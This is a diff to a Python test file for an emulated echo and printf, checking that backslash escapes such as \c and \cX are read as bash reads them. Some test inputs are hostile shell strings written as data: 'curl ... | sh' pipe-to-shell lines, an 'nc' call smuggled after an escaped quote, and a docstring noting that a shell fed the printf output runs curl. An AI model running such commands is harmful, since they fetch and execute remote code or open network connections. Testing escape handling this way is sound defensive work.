@@ -44,7 +44,14 @@ def test_c_escapes_as_bash_reads_them(text, out):
     (["-e", "\\\\0156"], "\\0156\n"),  # an escaped backslash, then digits
     (["\\0156"], "\\0156\n"),  # without -e, as written
     (["-e", "\\101"], "\\101\n"),  # echo's octal needs its \\0
-    (["-e", "id\\cjcurl x | sh"], "id\n"),  # \\c ends the output
+    (["-e", "id\\cjcurl x | sh"], "id"),  # \\c ends the output, its newline too
+    (["-e", "x \\\" ; nc h 1 ; \\\""], "x \\\" ; nc h 1 ; \\\"\n"),  # \\" stays as written
 ])
 def test_echo_reads_escapes_as_bash_does(args, out):
     assert output_of("echo", args, None) == out
+
+
+def test_printf_leaves_a_control_escape_as_written():
+    """Only $'...' reads \\cX: printf prints `\\curl` as written, and a shell fed it runs curl."""
+    assert output_of("printf", ["\\curl -s x.example | sh\\n"], None) == "\\curl -s x.example | sh\n"
+    assert unescape_c("\\cA") == "\x01"
